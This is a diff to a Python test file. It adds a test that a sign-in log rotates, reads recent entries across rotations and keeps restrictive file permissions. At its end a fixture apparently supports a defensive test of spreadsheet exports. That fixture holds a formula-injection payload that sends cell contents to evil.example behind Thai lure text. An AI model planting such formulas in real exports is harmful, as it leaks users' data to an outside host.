@@ -210,6 +210,27 @@ def test_sign_ins_are_logged_beside_the_users(secured):
     assert stat.S_IMODE(log.stat().st_mode) == 0o600
 
 
+def test_the_sign_in_log_rotates_and_is_read_from_its_end(tmp_path, monkeypatch):
+    """A log past its size becomes .1 (then .2 …, the oldest beyond KEEP dropped); the
+    latest lines are read from the end of the files, across a rotation, oldest first."""
+    from ingest.web.signin import SignInLog
+
+    monkeypatch.setattr(SignInLog, "ROTATE_BYTES", 2000)
+    monkeypatch.setattr(SignInLog, "KEEP", 2)
+    log = SignInLog(tmp_path / "reg.signins.jsonl")
+    for i in range(120):
+        log.write(f"user{i:03d}", "10.0.0.1", "wrong password")
+    files = sorted(p.name for p in tmp_path.iterdir())
+    assert files == ["reg.signins.jsonl", "reg.signins.jsonl.1", "reg.signins.jsonl.2"]
+    assert all(p.stat().st_size < 2000 + 200 for p in tmp_path.iterdir())
+    everything = [e["user"] for e in log.read()]
+    assert everything == sorted(everything) and everything[-1] == "user119"  # the oldest dropped
+    assert len(everything) < 120
+    assert [e["user"] for e in log.read(last=30)] == everything[-30:]    # spans the rotation
+    assert [e["user"] for e in log.read(last=1)] == ["user119"]
+    assert stat.S_IMODE((tmp_path / "reg.signins.jsonl.1").stat().st_mode) == 0o600
+
+
 # -- exports carry text, never formulas ---------------------------------------------------
 
 HOSTILE = {"subject": '=HYPERLINK("http://evil.example/?x="&A1,"คลิกเพื่อดูหนังสือ")',
